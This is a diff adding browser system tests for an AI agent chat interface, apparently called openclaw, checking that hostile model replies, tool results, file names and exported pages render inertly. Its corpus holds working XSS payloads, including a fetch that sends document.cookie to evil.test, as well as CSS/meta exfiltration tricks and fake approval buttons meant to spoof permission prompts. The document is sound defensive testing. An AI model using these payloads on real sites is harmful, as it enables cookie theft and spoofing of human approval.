@@ -1,0 +1,124 @@
+"""Hostile text: from a model, in a file a tool read, in the name of a conversation. Nothing runs, nothing leaves."""
+
+from typing import Any
+
+import pytest
+
+from openclaw.testing import Says, TemporaryHome, calls, says
+from openclaw.testing_server import MockModelServer
+from tests.ui.support import say, site, wait_idle
+
+pytestmark = pytest.mark.system
+
+RAN = "window.ran=1;fetch('http://evil.test/'+document.cookie)"
+CORPUS = (
+    f"<script>{RAN}</script>",
+    f'<img src=x onerror="{RAN}">',
+    f'<svg><script>{RAN}</script><animate onbegin="{RAN}" attributeName=x dur=1s></svg>',
+    f"<svg onload={RAN.replace(' ', '')}>",
+    f'<iframe srcdoc="<script>parent.ran=1</script>"></iframe><iframe src="javascript:{RAN}"></iframe>',
+    f"[click](javascript:{RAN})",
+    f"[click](JaVaScRiPt:{RAN})",
+    f"[click](java&#115;cript:{RAN})",
+    f"[click](\x01javascript:{RAN})",
+    f"[click](data:text/html,<script>{RAN}</script>)",
+    f"[click](vbscript:{RAN})",
+    "![see](http://evil.test/pixel.png?secret)",
+    '![x](x"onerror="window.ran=1)',
+    "![x](data:image/svg+xml,<svg onload=window.ran=1>)",
+    '<a href="https://ok.test" onclick="window.ran=1" style="position:fixed;inset:0">all</a>',
+    "<style>@import url(http://evil.test/a.css);body{background:url(http://evil.test/b)}</style>",
+    '<link rel=stylesheet href="http://evil.test/c.css"><meta http-equiv=refresh content="0;url=http://evil.test/">',
+    '<form action="http://evil.test/"><input name=q><button>go</button></form>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
+    "<details open ontoggle=window.ran=1>x</details><video><source onerror=window.ran=1></video>",
+    '<base href="http://evil.test/"><object data="http://evil.test/x"></object><embed src="http://evil.test/y">',
+    "```html onload=window.ran=1\n<script>window.ran=1</script>\n```",
+    "</textarea></pre></code><script>window.ran=1</script>",
+    "<oc-gate></oc-gate><oc-approvals></oc-approvals>",
+    '<div id="location" class="approval">May this command run? <button data-decision="allow-once">Allow</button></div>',
+    "| <img src=x onerror=window.ran=1> |\n|---|\n| <b onmouseover=window.ran=1>x</b> |",
+    "\u202egnp.exe\u2066 \u200b{{constructor.constructor('window.ran=1')()}} ${window.ran=1}",
+)
+
+
+def harmless(page: Any, here: Any) -> None:
+    """Nothing ran, nothing foreign is on the page, nothing was asked of anybody else."""
+    assert page.evaluate("window.ran") is None
+    foreign = "oc-chat :is(script,iframe,object,embed,form:not(.composer),style,link,base,meta,svg,video,math)"
+    assert page.locator(foreign).count() == 0
+    tricks = page.evaluate(
+        """() => [...document.querySelectorAll('.md *, .bubble *, oc-tool *')].flatMap(each =>
+            [...each.attributes].filter(({name, value}) => /^on|^style$/.test(name) || /^\\s*(javascript|vbscript|data:text)/i.test(value))
+            .map(({name, value}) => name + '=' + value))"""
+    )
+    assert tricks == []
+    assert all(url.startswith((here.address, f"ws://{here.address[7:]}", "data:", "blob:")) for url in here.requests)
+
+
+def test_a_model_that_answers_with_attacks_runs_nothing(openclaw_home: TemporaryHome, browser: Any) -> None:
+    with MockModelServer([Says("\n\n".join(CORPUS), piece=97), *(says(each) for each in CORPUS[:3])]) as server:
+        openclaw_home.configure(server.settings())
+        with site(openclaw_home, browser) as here:
+            page = here.open()
+            for text in ("all at once", "one", "two", "three"):
+                say(page, text)
+                page.wait_for_selector(f"article.user >> text={text}")
+                wait_idle(page)
+                harmless(page, here)
+            for link in page.locator(".md a").all():
+                assert link.get_attribute("href").startswith(("https:", "http:"))
+                assert link.get_attribute("rel") == "noopener noreferrer"
+            assert page.locator(".md .approval, .md [data-decision]").count() == 0
+            page.reload()
+            page.wait_for_selector("article.assistant .md")
+            harmless(page, here)
+            assert here.complaints == []
+
+
+def test_attacks_in_messages_tool_results_arguments_and_names_run_nothing(
+    openclaw_home: TemporaryHome, browser: Any
+) -> None:
+    (openclaw_home.workspace / "page.html").write_text("\n".join(CORPUS))
+    script = [calls("read", path="page.html"), calls("write", path=f"{CORPUS[1]}.txt", content=CORPUS[0]), says("done")]
+    with MockModelServer(script) as server:
+        openclaw_home.configure(server.settings())
+        with site(openclaw_home, browser) as here:
+            page = here.open()
+            say(page, "\n".join(CORPUS))
+            page.wait_for_selector("text=done")
+            wait_idle(page)
+            for summary in page.locator("oc-tool summary").all():
+                summary.click()
+            harmless(page, here)
+            for name in CORPUS[:4]:
+                say(page, f"/name {name}")
+                page.wait_for_selector("nav .recent a")
+                harmless(page, here)
+            page.click("nav a[href$='/sessions']")
+            page.wait_for_selector("oc-sessions td.name")
+            assert page.locator("oc-sessions :is(script,img,svg,iframe)").count() == 0
+            harmless(page, here)
+
+
+def test_an_exported_page_is_as_harmless(openclaw_home: TemporaryHome, browser: Any) -> None:
+    with MockModelServer([says("\n\n".join(CORPUS))]) as server:
+        openclaw_home.configure(server.settings())
+        with site(openclaw_home, browser) as here:
+            page = here.open()
+            say(page, "\n".join(CORPUS))
+            page.wait_for_selector("article.assistant .md")
+            wait_idle(page)
+            page.click("nav a[href$='/sessions']")
+            page.click("oc-sessions .actions summary")
+            with page.expect_download() as download:
+                page.click("text=Export as page")
+            file = openclaw_home.root / "exported.html"
+            download.value.save_as(file)
+            reader = here.visitor().new_page()
+            here.requests.clear()
+            reader.goto(file.as_uri())
+            assert reader.locator("article").count() == 2
+            assert reader.evaluate("window.ran") is None
+            assert reader.locator(":is(script, iframe, object, embed, form, svg, base)").count() == 0
+            assert [url for url in here.requests if not url.startswith(("file:", "data:"))] == []
